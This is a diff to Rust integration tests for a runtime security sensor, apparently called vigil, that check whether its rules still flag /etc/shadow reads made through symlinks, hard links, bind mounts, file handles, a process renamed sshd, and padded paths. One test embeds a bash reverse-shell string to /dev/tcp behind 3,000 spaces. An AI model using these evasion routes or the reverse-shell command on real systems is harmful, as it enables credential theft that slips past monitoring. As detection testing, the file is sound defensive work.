@@ -5,9 +5,13 @@
 //! /dev/tcp) and "Connection to common reverse-shell port" (perl connecting
 //! to a listed port), each with the fields the rule's output names; and the
 //! shadow read again around syscall tracepoints (a 32-bit `int 0x80` open and
-//! an io_uring open), which must trip the same rule. Needs
-//! root, BPF and BTF; skipped with a message otherwise, unless
-//! VIGIL_REQUIRE_LIVE=1 (CI), which makes that a failure.
+//! an io_uring open), which must trip the same rule; through names that are
+//! not its path (a symlink, a hard link, `/proc/self/root`, a bind mount of
+//! /etc, a file handle) and by a process renamed `sshd`, which must too; and
+//! padding past what the sensor copies (a 4 KB path, a 3 KB shell command
+//! line), which must not hide anything. Needs root, BPF and BTF; skipped with
+//! a message otherwise, unless VIGIL_REQUIRE_LIVE=1 (CI), which makes that a
+//! failure.
 
 mod common;
 
@@ -15,6 +19,7 @@ use std::io::Read;
 use std::net::TcpListener;
 use std::process::{Command, Stdio};
 
+use common::evasion::{child_result, handle_open, open_read, padded_path, same_fs_dir};
 use common::{copy_named, field, live_capable, unique, Vigil};
 
 /// `vigil run --json` on the repository's rules/ directory, with a config
@@ -215,21 +220,11 @@ fn shipped_rules_see_shadow_reads_around_syscall_tracepoints() {
     let name = unique("evd");
     // A child (this test binary again, only `evasion_child`): vigil ignores
     // nothing of it, and the process and thread carry `name` as their comm.
-    let out = Command::new(std::env::current_exe().unwrap())
-        .args([
-            "--exact",
-            "evasion_child",
-            "--nocapture",
-            "--test-threads=1",
-        ])
-        .env("VIGIL_EVASION_CHILD", &name)
-        .output()
-        .unwrap();
-    let stdout = String::from_utf8_lossy(&out.stdout);
-    let res = stdout
-        .lines()
-        .find_map(|l| l.split_once("EVASION ").map(|(_, v)| v.trim().to_string()))
-        .unwrap_or_else(|| panic!("evasion_child printed no result: {stdout}"));
+    let res = child_result(
+        "evasion_child",
+        &[("VIGIL_EVASION_CHILD", &name)],
+        "EVASION",
+    );
     let (int80_fd, uring) = res.split_once(' ').unwrap();
     assert!(
         int80_fd.parse::<i64>().unwrap() >= 0,
@@ -276,4 +271,223 @@ fn evasion_child() {
         None => "unsupported".to_string(),
     };
     println!("EVASION {fd} {uring}");
+}
+
+/// A named alert predicate for [`wait_each`].
+type AlertPred<'a> = (&'a str, &'a dyn Fn(&serde_json::Value) -> bool);
+
+/// Collects alerts until each predicate has matched one (alerts arrive in
+/// any order); returns them in the predicates' order, or panics naming the
+/// ones that never matched.
+fn wait_each(v: &Vigil, secs: u64, preds: &[AlertPred<'_>]) -> Vec<serde_json::Value> {
+    let mut got: Vec<Option<serde_json::Value>> = vec![None; preds.len()];
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
+    while got.iter().any(Option::is_none) {
+        let left = deadline
+            .saturating_duration_since(std::time::Instant::now())
+            .as_secs()
+            .max(1);
+        let hit = v.wait_alert(left, |a| {
+            preds
+                .iter()
+                .zip(&got)
+                .any(|((_, p), g)| g.is_none() && p(a))
+        });
+        let Some(a) = hit else { break };
+        for (i, (_, p)) in preds.iter().enumerate() {
+            if got[i].is_none() && p(&a) {
+                got[i] = Some(a.clone());
+            }
+        }
+        if std::time::Instant::now() > deadline {
+            break;
+        }
+    }
+    let missing: Vec<&str> = preds
+        .iter()
+        .zip(&got)
+        .filter(|(_, g)| g.is_none())
+        .map(|((n, _), _)| *n)
+        .collect();
+    assert!(missing.is_empty(), "no alert for: {missing:?}");
+    got.into_iter().map(Option::unwrap).collect()
+}
+
+/// Padding past what the sensor copies: an open of `/etc/` + `./` x 2000 +
+/// `shadow` (4,011 bytes; the raw path is cut at 1,023 and reads `/etc`)
+/// still reads as /etc/shadow, and a shell whose command line hides a
+/// payload after 3,000 spaces raises "Shell with truncated command line".
+#[test]
+fn shipped_rules_see_through_padding() {
+    let Some(mut v) = start_shipped() else {
+        return;
+    };
+    let name = unique("pad");
+    let fd = child_result(
+        "alias_child",
+        &[("VIGIL_ALIAS_CHILD", &name), ("VIGIL_ALIAS_PADDED", "1")],
+        "ALIAS",
+    );
+    assert!(fd.parse::<i64>().unwrap() >= 0, "padded open: {fd}");
+    let payload = format!(
+        "true {} # bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
+        " ".repeat(3000)
+    );
+    let mut bash = Command::new("/bin/bash")
+        .args(["-c", &payload])
+        .spawn()
+        .unwrap();
+    let bash_pid = bash.id() as u64;
+    assert!(bash.wait().unwrap().success());
+    let name2 = name.clone();
+    let got = wait_each(
+        &v,
+        20,
+        &[
+            ("padded shadow read", &move |a: &serde_json::Value| {
+                a["rule"] == "Read sensitive file untrusted"
+                    && field(a, "proc.name") == name2.as_str()
+            }),
+            ("padded shell", &move |a: &serde_json::Value| {
+                a["rule"] == "Shell with truncated command line"
+                    && field(a, "proc.pid").as_u64() == Some(bash_pid)
+            }),
+        ],
+    );
+    let f = &got[0]["output_fields"];
+    assert_eq!(f["file.path"], "/etc/shadow");
+    assert_eq!(f["file.path_raw_truncated"], true);
+    assert_eq!(f["file.path_truncated"], false);
+    assert_eq!(
+        f["file.path_lexical"], "/etc",
+        "the cut raw path alone says /etc"
+    );
+    assert_eq!(got[1]["output_fields"]["proc.cmdline_truncated"], true);
+    assert_eq!(v.stop(), Some(0));
+}
+
+/// /etc/shadow read through names that are not its path — a symlink, a hard
+/// link, /proc/self/root, a bind mount of /etc, a file handle
+/// (open_by_handle_at) — and by a process that renamed itself `sshd`
+/// (prctl PR_SET_NAME, the comm of a trusted reader): each raises "Read
+/// sensitive file untrusted" with file.path /etc/shadow.
+#[test]
+fn shipped_rules_see_shadow_through_its_aliases() {
+    let Some(mut v) = start_shipped() else {
+        return;
+    };
+    let base = same_fs_dir("/etc/shadow").expect("a writable directory on /etc's file system");
+    let dir = tempfile::tempdir_in(&base).unwrap();
+    let d = dir.path().to_str().unwrap().to_string();
+    let name = unique("als");
+    let res = child_result(
+        "alias_child",
+        &[("VIGIL_ALIAS_CHILD", &name), ("VIGIL_ALIAS_DIR", &d)],
+        "ALIAS",
+    );
+    let r: Vec<i64> = res.split(' ').map(|x| x.parse().unwrap()).collect();
+    let [pid, rest @ ..] = r.as_slice() else {
+        panic!("{res}")
+    };
+    assert!(
+        rest.iter().all(|fd| *fd >= 0),
+        "symlink, hard link, /proc/self/root, handle, sshd: {res}"
+    );
+    // a bind mount of /etc, in a private mount namespace, read by a cat
+    // named `bindname`
+    let bindname = unique("bnd");
+    let cat = copy_named(dir.path(), "/bin/cat", &bindname);
+    let mnt = dir.path().join("m");
+    std::fs::create_dir(&mnt).unwrap();
+    let st = Command::new("unshare")
+        .args(["--mount", "--propagation", "private", "sh", "-c"])
+        .arg(r#"mount --bind /etc "$1" && exec "$2" "$1/shadow""#)
+        .args(["sh", mnt.to_str().unwrap(), cat.to_str().unwrap()])
+        .stdout(std::process::Stdio::null())
+        .status()
+        .unwrap();
+    assert!(st.success(), "unshare + bind mount + cat");
+    let shadow = |who: String, raw: String| {
+        move |a: &serde_json::Value| {
+            a["rule"] == "Read sensitive file untrusted"
+                && field(a, "proc.name") == who.as_str()
+                && field(a, "file.path_raw") == raw.as_str()
+        }
+    };
+    let bind_raw = format!("{}/shadow", mnt.display());
+    let pid = *pid as u64;
+    let got = wait_each(
+        &v,
+        20,
+        &[
+            ("symlink", &shadow(name.clone(), format!("{d}/sl"))),
+            ("hard link", &shadow(name.clone(), format!("{d}/hl"))),
+            (
+                "/proc/self/root",
+                &shadow(name.clone(), "/proc/self/root/etc/shadow".into()),
+            ),
+            // a handle open has no path as passed: the resolved one stands for it
+            (
+                "open_by_handle_at",
+                &shadow(name.clone(), "/etc/shadow".into()),
+            ),
+            ("bind mount", &shadow(bindname.clone(), bind_raw.clone())),
+            ("renamed sshd", &move |a: &serde_json::Value| {
+                a["rule"] == "Read sensitive file untrusted"
+                    && field(a, "proc.name") == "sshd"
+                    && field(a, "proc.pid").as_u64() == Some(pid)
+            }),
+        ],
+    );
+    for a in &got {
+        assert_eq!(field(a, "file.path"), "/etc/shadow", "{a}");
+    }
+    assert_eq!(
+        field(&got[0], "file.path_resolved"),
+        "/etc/shadow",
+        "a symlink resolves"
+    );
+    assert_eq!(
+        field(&got[1], "file.path_resolved"),
+        format!("{d}/hl").as_str(),
+        "a hard link is named by identity"
+    );
+    assert_eq!(
+        field(&got[4], "file.path_resolved"),
+        bind_raw.as_str(),
+        "a bind mount is named by identity"
+    );
+    assert_eq!(v.stop(), Some(0));
+}
+
+/// The child side of the alias and padding tests (a no-op unless started
+/// with VIGIL_ALIAS_CHILD): names itself, then either opens the padded path
+/// (VIGIL_ALIAS_PADDED), or reads /etc/shadow through a symlink and a hard
+/// link in VIGIL_ALIAS_DIR, /proc/self/root and a file handle, then renames
+/// itself `sshd` and reads it plainly; prints its pid and the results.
+#[test]
+fn alias_child() {
+    let Ok(name) = std::env::var("VIGIL_ALIAS_CHILD") else {
+        return;
+    };
+    common::evasion::name_process(&name);
+    if std::env::var("VIGIL_ALIAS_PADDED").is_ok() {
+        println!("ALIAS {}", open_read(&padded_path("/etc", "shadow", 2000)));
+        return;
+    }
+    let dir = std::path::PathBuf::from(std::env::var("VIGIL_ALIAS_DIR").unwrap());
+    std::os::unix::fs::symlink("/etc/shadow", dir.join("sl")).unwrap();
+    std::fs::hard_link("/etc/shadow", dir.join("hl")).unwrap();
+    let sl = open_read(dir.join("sl").to_str().unwrap());
+    let hl = open_read(dir.join("hl").to_str().unwrap());
+    // no copy of the password database left lying around
+    std::fs::remove_file(dir.join("hl")).unwrap();
+    let root = open_read("/proc/self/root/etc/shadow");
+    let handle = handle_open("/etc", "/etc/shadow");
+    common::evasion::name_process("sshd");
+    let plain = open_read("/etc/shadow");
+    println!(
+        "ALIAS {} {sl} {hl} {root} {handle} {plain}",
+        std::process::id()
+    );
 }
